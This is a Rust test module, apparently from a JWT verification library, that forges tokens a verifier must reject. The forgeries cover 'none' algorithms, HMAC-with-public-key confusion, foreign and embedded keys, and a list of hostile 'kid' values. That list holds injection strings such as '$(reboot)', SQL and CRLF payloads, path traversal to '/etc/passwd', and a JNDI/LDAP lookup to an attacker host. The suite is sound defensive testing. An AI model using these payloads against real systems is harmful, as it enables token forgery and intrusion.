//! Which key, which algorithm (RFC 8725 §3.1, §3.8, §3.10).

use hallpass_core::ErrorKind;
use serde_json::json;

use super::{Ids, token};
use crate::cases::forge::{Segments, bringing_its_key, hmac_under, jwk, public_der, public_pem};
use crate::cases::{Answer, Case, Kit};
use crate::{TestIssuer, TokenBuilder};

pub(super) fn rows() -> Vec<Case> {
    let mut rows = unsigned();
    rows.extend(confused());
    rows.extend(algorithms());
    rows.extend(renamed());
    rows.extend(key_ids());
    rows.extend(attackers());
    rows.extend(embedded());
    rows
}

fn unknown() -> Answer {
    Answer::invalid(ErrorKind::UnknownKey)
}

/// `none`, in every spelling, without a signature.
fn unsigned() -> Vec<Case> {
    let rows = ["none", "None", "NONE", "nOnE", "none "].into_iter().map(|alg| {
        let mint = move |kit: &Kit| {
            Segments::of(&kit.foreign().token().header("alg", alg)).signed(|_| String::new())
        };
        let ids: Ids = &["JWS-15", "BCP-10", "AT-05"];
        token(format!("alg {alg:?}, unsigned"), ids, mint, Answer::invalid(ErrorKind::Header))
    });
    rows.collect()
}

/// The public key for the secret of an HMAC, in every form in which it is published.
fn confused() -> Vec<Case> {
    let row = |name: &str, secret: fn(&TestIssuer) -> Vec<u8>| {
        let mint = move |kit: &Kit| {
            let issuer = kit.foreign();
            hmac_under(&secret(issuer), &issuer.token().header("alg", "HS256"))
        };
        token(format!("HS256 under the public key, {name}"), &["ALG-02", "ALG-01"], mint, unknown())
    };
    vec![
        row("in PEM", |issuer| public_pem(issuer.key()).into()),
        row("in PEM without the last line break", |issuer| public_pem(issuer.key()).trim().into()),
        row("in DER", |issuer| public_der(issuer.key())),
        row("as a point", |issuer| public_der(issuer.key()).split_off(26)),
        row("as a JWK", |issuer| issuer.key().public_jwk().unwrap_or_default().into()),
        row("by nothing at all", |_| Vec::new()),
    ]
}

/// The algorithm comes from the key.
fn algorithms() -> Vec<Case> {
    let row = |name: &str, ids: Ids, mint: fn(&Kit) -> TokenBuilder, answer: Answer| {
        token(name, ids, mint, answer)
    };
    vec![
        row("HS256", &["BEARER-01"], |kit| kit.own().token(), Answer::user()),
        row("RS256", &["BEARER-01"], |kit| kit.nested().token(), Answer::user()),
        row("Ed25519 as EdDSA", &["ALG-12"], |kit| kit.strict().token(), Answer::user()),
        row(
            "Ed25519 as Ed25519",
            &["ALG-13", "ALG-14"],
            |kit| kit.strict().token().header("alg", "Ed25519"),
            Answer::user(),
        ),
        row(
            "Ed448 on an Ed25519 key",
            &["ALG-15"],
            |kit| kit.strict().token().header("alg", "Ed448"),
            Answer::invalid(ErrorKind::Header),
        ),
    ]
}

/// The right key under the name of another algorithm.
fn renamed() -> Vec<Case> {
    let row = |alg: &'static str, key: &str, ids: Ids, mint: fn(&Kit) -> TokenBuilder| {
        let name = format!("{alg} on a key for {key}");
        token(name, ids, move |kit| mint(kit).header("alg", alg), unknown())
    };
    let other: Ids = &["ALG-02", "ALG-03"];
    vec![
        row("ES384", "ES256", &["ALG-07"], |kit| kit.foreign().token()),
        row("EdDSA", "ES256", &["ALG-15"], |kit| kit.foreign().token()),
        row("RS512", "RS256", other, |kit| kit.nested().token()),
        row("PS256", "RS256", other, |kit| kit.nested().token()),
        row("HS384", "HS256", other, |kit| kit.own().token()),
    ]
}

/// `kid` is opaque text (RFC 7515 §4.1.4).
fn key_ids() -> Vec<Case> {
    let hostile = [
        "",
        "Shared",
        "shared ",
        "share",
        "shared\0",
        "\0",
        "../../../../dev/null",
        "..\\..\\secret",
        "/etc/passwd",
        "file:///dev/null",
        "https://attacker.test/jwks.json",
        "' OR '1'='1",
        "\"; DROP TABLE keys; --",
        "*)(kid=*",
        "$(reboot)",
        "%00",
        "\r\nSet-Cookie: a=b",
        "\u{202e}derahs",
        "\u{ff53}hared",
        "${jndi:ldap://attacker.test/a}",
        "shared,other",
    ];
    let rows = hostile.into_iter().map(|key_id| {
        let mint = move |kit: &Kit| kit.foreign().token().key_id(key_id);
        token(format!("kid {key_id:?}"), &["JWS-09", "JWK-05"], mint, unknown())
    });
    let long = token(
        "a kid of 2,800 bytes",
        &["JWS-09", "JWS-18"],
        |kit| kit.foreign().token().key_id("k".repeat(2_800)),
        unknown(),
    );
    let unnamed = token(
        "a kid for a key that has none",
        &["JWS-09", "JWK-05"],
        |kit| kit.own().token().key_id("2027-01"),
        Answer::user(),
    );
    rows.chain([long, unnamed]).collect()
}

/// Keys that are not the issuer's.
fn attackers() -> Vec<Case> {
    let bad_signature = || Answer::invalid(ErrorKind::Signature);
    vec![
        token(
            "signed by somebody else, with the right kid",
            &["KEY-01"],
            |kit| attack(kit, "shared"),
            bad_signature(),
        ),
        token(
            "signed by somebody else, with a kid of his",
            &["KEY-01"],
            |kit| attack(kit, "his"),
            unknown(),
        ),
        token(
            "signed by somebody else, without a kid",
            &["KEY-01"],
            |kit| attack(kit, "").without_header("kid"),
            bad_signature(),
        ),
        token(
            "one issuer's key for another issuer, under one kid",
            &["KEY-01", "BCP-04"],
            |kit| kit.twin().token().issuer(kit.foreign().name()),
            bad_signature(),
        ),
        token(
            "one issuer's key for another issuer, of another algorithm",
            &["KEY-01"],
            |kit| kit.foreign().token().issuer(kit.strict().name()),
            unknown(),
        ),
        token(
            "the other issuer with that kid",
            &["KEY-01"],
            |kit| kit.twin().token(),
            Answer::user(),
        ),
    ]
}

/// Keys that the token brings along.
fn embedded() -> Vec<Case> {
    let bad_signature = || Answer::invalid(ErrorKind::Signature);
    let ids: Ids = &["JWS-10", "KEY-01"];
    vec![
        token(
            "the attacker's key in jwk",
            ids,
            |kit| {
                let attacker = TestIssuer::es256();
                bringing_its_key(&attacker, claims_of(kit, attacker.token()).key_id("shared"))
            },
            bad_signature(),
        ),
        token(
            "the attacker's key in jwk, with its kid",
            ids,
            |kit| {
                let attacker = TestIssuer::es256();
                bringing_its_key(&attacker, claims_of(kit, attacker.token()))
            },
            unknown(),
        ),
        token(
            "the attacker's key set in jku",
            ids,
            |kit| attack(kit, "shared").header("jku", "https://attacker.test/jwks.json"),
            bad_signature(),
        ),
        token(
            "the attacker's certificate in x5c",
            ids,
            |kit| attack(kit, "shared").header("x5c", json!([jwk(TestIssuer::es256().key())])),
            bad_signature(),
        ),
    ]
}

/// A token of somebody else's that says that it is of the issuer.
fn attack(kit: &Kit, key_id: &str) -> TokenBuilder {
    claims_of(kit, TestIssuer::es256().token()).key_id(key_id)
}

fn claims_of(kit: &Kit, token: TokenBuilder) -> TokenBuilder {
    token.issuer(kit.foreign().name()).claim("exp", Kit::in_seconds(60)).without("iat")
}
